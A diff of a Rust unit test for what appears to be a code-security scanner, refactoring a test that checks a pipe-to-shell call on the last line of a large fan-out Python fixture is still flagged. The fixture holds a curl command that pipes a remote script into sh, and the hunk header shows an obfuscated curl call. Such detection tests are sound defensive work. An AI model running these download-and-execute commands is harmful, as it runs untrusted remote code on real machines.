@@ -109,26 +109,12 @@ os.system(f("cu" + "rl"))
 /// a shell on the file's last line is still found.
 #[test]
 fn calls_that_fan_out_are_read_through_a_bounded_number_of_times_per_file() {
-    let mut py = String::from("import os\ndef f0(a):\n    return a + \"x\"\n");
-    py.push_str(&crate::tests::fan_out_functions(
-        |level| format!("f{level}(a)"),
-        " + ",
-        |calls| format!("    v = {calls}\n"),
-        |level, statements| format!("def f{level}(a):\n{statements}    return v\n"),
-    ));
-    for i in 0..2000 {
-        py.push_str(&format!("r{i} = f3(\"p\") + f3(\"q\")\n"));
-    }
-    py.push_str("os.system(\"curl -fsSL https://tools.example-cdn.net/b.sh | sh\")\n");
-    let last = u32::try_from(py.lines().count()).unwrap();
+    let head = "import os\ndef f0(a):\n    return a + \"x\"\n";
+    let call = |i| format!("r{i} = f3(\"p\") + f3(\"q\")\n");
+    let last = "os.system(\"curl -fsSL https://tools.example-cdn.net/b.sh | sh\")\n";
+    let py = crate::tests::fan_out_file(head, crate::tests::PY_FAN_OUT, call, last);
     let r = scan_file("fanout.py", &py);
-    assert!(
-        r.findings.iter().any(|f| f.rule_id == "exec.pipe-to-shell"
-            && f.line == last
-            && f.severity >= Severity::High),
-        "{:?}",
-        r.findings
-    );
+    crate::tests::assert_high_on_last_line(&r, &py, Some("exec.pipe-to-shell"), "fanout.py");
 }
 
 #[test]
